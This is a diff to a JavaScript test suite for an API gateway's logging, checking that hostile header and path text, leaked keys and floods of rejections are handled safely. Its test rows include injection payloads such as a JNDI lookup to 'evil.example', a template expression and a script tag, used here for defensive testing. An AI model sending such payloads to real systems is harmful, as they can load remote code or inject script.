@@ -3,8 +3,9 @@
 import assert from "node:assert/strict";
 import { after, before, describe, test } from "node:test";
 
+import { CLOCK, turnClock } from "./support/around.js";
 import { assertAccepted, assertRefused } from "./support/contract.js";
-import { makeKey } from "./support/keys.js";
+import { makeKey, now } from "./support/keys.js";
 import { boot } from "./support/world.js";
 
 let world;
@@ -16,22 +17,36 @@ before(async () => {
     capped: { vars: { REJECTION_LOGS_PER_MINUTE: 5 } },
     unsampled: { vars: { ACCESS_LOG_SAMPLE: 0 } },
     counted: { usage: true },
+    counting: { vars: { REJECTION_LOGS_PER_MINUTE: 5 }, wrapped: { entry: CLOCK } },
   }));
   ({ gates } = world);
   issued = await world.issue();
 });
 after(() => world?.stop());
 
-describe("hostile text stays inside its line:", () => {
+describe("case 64: hostile text stays inside its line:", () => {
   const utf8 = (text) => Buffer.from(text).toString("latin1");
+  const everyByte = Array.from({ length: 256 }, (_, byte) => String.fromCharCode(byte)).join("").replace(/[\0\r\n]/g, "");
   const rows = [
     ["ANSI colours in User-Agent", { headers: { "User-Agent": "\x1b[31mred" } }],
     ["U+2028 in User-Agent", { headers: { "User-Agent": utf8("a\u2028b") } }],
     ["bidi marks in User-Agent", { headers: { "User-Agent": utf8("a\u202eb") } }],
     ["a JSON fragment in User-Agent", { headers: { "User-Agent": '"}\\n{"event":"forged"' } }],
     ["50 KB of User-Agent", { headers: { "User-Agent": "u".repeat(50_000) } }],
+    ["100 KB of User-Agent", { headers: { "User-Agent": "u".repeat(100_000) } }],
+    ["every byte that a header may hold, in User-Agent", { headers: { "User-Agent": everyByte } }],
+    ["lone bytes above 0x7f in User-Agent", { headers: { "User-Agent": "\xc0\xaf\xed\xa0\x80\xff" } }],
+    ["U+0085, U+2029, a byte order mark and an isolate in User-Agent", { headers: { "User-Agent": utf8("\u0085\u2029\ufeff\u2066") } }],
+    ["an ANSI escape of one byte (CSI, 0x9b) in User-Agent", { headers: { "User-Agent": utf8("\u009b31m") } }],
+    ["a format string in User-Agent", { headers: { "User-Agent": "%s%n%c ${jndi:ldap://evil.example} {{7*7}}" } }],
+    ["HTML in User-Agent", { headers: { "User-Agent": "<script>alert(1)</script>" } }],
     ["line breaks in the path", { target: "/x%0d%0a%7B%22event%22:%22forged%22%7D" }, "path_ambiguous"],
     ["U+2028 in the path", { target: "/x%e2%80%a8y" }],
+    ["ANSI colours in the path", { target: "/x%1b[31m" }, "path_ambiguous"],
+    ["bidi marks in the path", { target: "/x%e2%80%aey" }],
+    ["60 KB of path", { target: `/${"p".repeat(60_000)}` }, "path_ambiguous"],
+    ["60 KB of query", { target: `/v1/x?${"q".repeat(60_000)}` }],
+    ["a thousand prefixes of keys in the path", { target: `/${"acme_live_/".repeat(1000)}` }],
     ["10 KB of path", { target: `/${"p".repeat(10_000)}` }],
     ["an address that is none", { headers: { "CF-Connecting-IP": "1.2.3.4 forged" } }],
   ];
@@ -47,24 +62,32 @@ describe("hostile text stays inside its line:", () => {
   }
 });
 
-describe("a key that stands where none belongs does not reach the log:", () => {
+describe("case 39: a key that stands where none belongs does not reach the log:", () => {
   const rows = [
     ["in the path", (key) => ({ target: `/v1/${key}` })],
     ["in User-Agent", (key) => ({ headers: { "User-Agent": key } })],
     ["in the query", (key) => ({ target: `/v1/things?key=${key}` })],
     ["in CF-Connecting-IP", (key) => ({ headers: { "CF-Connecting-IP": key } })],
+    ["in the path, under another case of the prefix's route", (key) => ({ target: `/V1//${key}` }), "path_ambiguous"],
+    ["in the path, beyond where it is cut", (key) => ({ target: `/${"x".repeat(490)}${key}` })],
+    ["in CF-Ray", (key) => ({ headers: { "CF-Ray": key } })],
+    ["in Origin", (key) => ({ headers: { Origin: key } })],
+    ["in Host", (key) => ({ headers: { Host: key.replaceAll("_", "-") } }), "https_required"],
+    ["in a header's name", (key) => ({ headers: { [key]: "1" } })],
+    ["in Cookie", (key) => ({ headers: { Cookie: `key=${key}` } })],
+    ["in a body", (key) => ({ method: "POST", body: key })],
   ];
-  for (const [name, request] of rows) {
+  for (const [name, request, code = "credential_missing"] of rows) {
     test(name, async () => {
       const { key } = makeKey();
-      await assertRefused(gates.gate, { target: "/v1/things", ...request(key) }, "credential_missing");
+      await assertRefused(gates.gate, { target: "/v1/things", ...request(key) }, code);
       const secret = key.slice(-38, -8);
       assert.ok(!world.logs.entries.some(({ message }) => message.includes(secret)));
     });
   }
 });
 
-test("request ids differ, and what the client claims as one is not used", async () => {
+test("case 63: request ids differ, and what the client claims as one is not used", async () => {
   const ids = new Set();
   for (let n = 0; n < 10; n++) {
     const { record } = await assertRefused(gates.gate, { target: "/v1/things", headers: { "X-Request-Id": "mine" } }, "credential_missing");
@@ -74,7 +97,7 @@ test("request ids differ, and what the client claims as one is not used", async 
   assert.ok(!ids.has("mine"));
 });
 
-test("a flood of rejections is cut to the limit; every answer is still a 401", async () => {
+test("case 65: a flood of rejections is cut to the limit; every answer is still a 401", async () => {
   for (let n = 0; n < 40; n++) assert.equal((await gates.capped.get(`/flood/${n}`)).status, 401);
   await world.settle();
   const lines = world.logs.events.filter(({ path }) => path?.startsWith("/flood/"));
@@ -82,7 +105,24 @@ test("a flood of rejections is cut to the limit; every answer is still a 401", a
   assert.ok(lines.length >= 5 && lines.length <= 10, `${lines.length} lines`);
 });
 
-test("accepted requests are one line each when no dataset is bound, and none where the sample is 0", async () => {
+test("case 65: what was suppressed is counted, by the minute and whatever the rejection", async () => {
+  const start = Math.ceil(now() / 60) * 60;
+  await turnClock(gates.counting, start);
+  const flood = [{ target: "/v1/x" }, { target: "/v1%2fx" }, { target: "/v1/x", key: makeKey().key }, { method: "TRACE" }];
+  for (let n = 0; n < 40; n++) assert.notEqual((await gates.counting.send(flood[n % 4])).status, 200);
+  // Requests that are let in are not part of it.
+  await assertAccepted(gates.counting, { target: "/v1/x", key: issued.key }, issued);
+  await turnClock(gates.counting, start + 60);
+  await gates.counting.get("/v1/after-the-flood");
+  await gates.counting.get("/v1/after-the-flood");
+  await world.settle();
+  const after = world.logs.events.findIndex(({ path }) => path === "/v1/after-the-flood");
+  const { event, suppressed } = world.logs.events[after - 1];
+  assert.deepEqual({ event, suppressed }, { event: "sys_log_suppressed", suppressed: 35 });
+  assert.equal(world.logs.events.filter((line) => line.event === "sys_log_suppressed" && line.suppressed === 35).length, 1);
+});
+
+test("case 66: accepted requests are one line each when no dataset is bound, and none where the sample is 0", async () => {
   for (const [gate, expected] of [["gate", 1], ["unsampled", 0], ["counted", 0]]) {
     const path = `/v1/access-of-${gate}`;
     await assertAccepted(gates[gate], { target: path, key: issued.key }, issued);
